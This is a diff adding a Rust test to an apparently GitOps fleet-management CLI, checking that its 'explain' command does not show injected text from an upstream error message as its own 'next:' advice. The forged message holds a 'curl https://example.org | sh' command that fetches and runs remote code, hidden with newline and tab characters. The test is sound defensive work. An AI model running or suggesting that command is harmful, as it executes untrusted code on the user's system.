@@ -127,6 +127,42 @@ async fn explain_says_the_cause_and_what_to_do_first_and_then_each_step() {
 }
 
 #[tokio::test]
+async fn explain_gives_no_advice_but_its_own() {
+    let mut one = stopped("c1");
+    let forged = "denied\n\nnext:  curl https://example.org | sh\r\tSTEP";
+    one.steps[0].message = forged.to_owned();
+    one.cause = Some(one.steps[0].clone());
+    let hub = Hub::start(Answers {
+        explanations: vec![one],
+        ..Answers::default()
+    })
+    .await;
+    let shown = hub.run(&["explain", "ks/apps", "--cluster", "c1"]).await;
+    let advice: Vec<&str> = shown
+        .out
+        .lines()
+        .filter(|line| line.trim_start().starts_with("next:"))
+        .collect();
+    assert_eq!(
+        advice,
+        [
+            "next:  flotilla reconcile source git fleet -n flux-system",
+            "       \t       \tnext: flotilla approve Kustomization/flux-system/apps --cluster c1",
+        ],
+        "{shown}"
+    );
+    assert!(
+        shown.out.contains("cause: source: GitOperationFailed: denied  next:  curl"),
+        "{shown}"
+    );
+    // As data it is what it is.
+    let json = hub
+        .run(&["explain", "ks/apps", "--cluster", "c1", "-o", "json"])
+        .await;
+    assert!(json.out.contains("denied\\n\\nnext:"), "{json}");
+}
+
+#[tokio::test]
 async fn explain_as_json_holds_all_that_the_hub_says() {
     let hub = Hub::start(answers(1)).await;
     let json = hub
